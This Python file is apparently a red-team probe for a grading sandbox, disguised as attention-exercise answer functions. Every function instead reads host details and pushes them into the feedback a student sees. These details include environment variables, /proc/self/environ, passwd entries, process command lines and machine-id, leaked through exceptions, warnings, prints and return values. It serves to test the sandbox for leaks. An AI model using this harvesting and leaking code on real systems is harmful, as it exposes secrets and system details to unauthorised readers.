"""Red team (issue 26, host information): gathers what the worker can learn of the machine and the kit
(sys.path, the interpreter's prefix, the files of torch and of the grader's modules, the working folder,
/proc/self/maps, mountinfo and cgroup, the environment, user names and the passwd file, hostname, uname,
CPU model, memory, load, the kernel command line, other processes' command lines, the frames above it) and
puts it into everything a student reads: exception messages, notes, chained causes, an exception type
named after a path, a warning, printed output, a string where a float is due. Marker: RTEAM-HOST.

base: clean
class: 5
run: main
"""

import getpass as _getpass
import json as _json
import os as _os
import socket as _socket
import sys as _sys
import traceback as _traceback
import warnings as _warnings


def _read(path, limit=4000):
    with open(path, "rb") as stream:
        return stream.read(limit).decode(errors="replace").replace("\0", " ")


def _facts():
    found = {}

    def add(key, make):
        try:
            found[key] = make()
        except Exception as error:  # noqa: BLE001 - record what was refused
            found[key] = f"<{type(error).__name__}>"

    import pwd as _pwd
    import site as _site

    add("path", lambda: list(_sys.path))
    add("prefix", lambda: [_sys.executable, _sys.prefix, _sys.base_prefix, _site.getsitepackages()])
    add("torch", lambda: torch.__file__)
    add("modules", lambda: sorted({_os.path.dirname(getattr(m, "__file__", None) or "") for m in list(_sys.modules.values())})[:60])
    add("kit", lambda: sorted(getattr(m, "__file__", "") or "" for name, m in list(_sys.modules.items())
                              if name.split(".")[0] in ("grader", "tests"))[:10])
    add("frames", lambda: sorted({line.strip().split(",")[0] for line in _traceback.format_stack()}))
    add("cwd", _os.getcwd)
    add("maps", lambda: sorted({line.split()[-1] for line in _read("/proc/self/maps", 200000).splitlines() if "/" in line})[:40])
    add("mountinfo", lambda: _read("/proc/self/mountinfo", 3000))
    add("cgroup", lambda: _read("/proc/self/cgroup"))
    add("environ", lambda: dict(_os.environ))
    add("proc_environ", lambda: _read("/proc/self/environ"))
    add("user", _getpass.getuser)
    add("passwd", lambda: [f"{p.pw_name}:{p.pw_dir}" for p in _pwd.getpwall()][:30])
    add("uids", lambda: [_os.getuid(), _os.geteuid(), _read("/proc/self/uid_map")])
    add("host", lambda: [_socket.gethostname(), list(_os.uname())])
    add("cpu", lambda: [line for line in _read("/proc/cpuinfo", 20000).splitlines() if line.startswith("model name")][:1]
        + [_os.cpu_count()])
    add("memory", lambda: _read("/proc/meminfo").splitlines()[:3])
    add("load", _os.getloadavg)
    add("uptime", lambda: _read("/proc/uptime"))
    add("boot", lambda: _read("/proc/cmdline"))
    add("machine", lambda: _read("/etc/machine-id"))
    add("processes", lambda: [_read(f"/proc/{pid}/cmdline", 200) for pid in _os.listdir("/proc") if pid.isdigit()][:30])
    add("pid1", lambda: _read("/proc/1/cmdline"))
    add("root", lambda: sorted(_os.listdir("/")))
    return found


_FACTS = None


def _chunk(index, parts=6):
    global _FACTS
    if _FACTS is None:
        _FACTS = _facts()
    keys = sorted(_FACTS)
    return {key: _FACTS[key] for key in keys[index::parts]}


def _text(index):
    return "RTEAM-HOST " + _json.dumps(_chunk(index), default=str)[:6000]


def attention_dropout(attn_weights, p, training=True):
    print(_text(0))
    _warnings.warn(_text(1))
    error = RuntimeError(_text(0))
    error.add_note(_text(1))
    raise error


def causal_mask(context_length):
    kind = type("RTEAM_HOST_" + str(_chunk(2).get("cwd", "")) + str(_chunk(2).get("path", "")), (Exception,), {})
    raise kind(_text(2))


def mask_and_renormalize(attn_weights):
    try:
        raise LookupError(_text(3))
    except LookupError as cause:
        raise ValueError("RTEAM-HOST see the cause") from cause


def dot_product_variance(dim, num_trials=1000, seed=0):
    return _text(4), _text(5)


class _Lazy(Exception):
    def __str__(self):
        return _text(5) + " " + _text(4)


def causal_attention_weights(scores, d_k):
    raise _Lazy()
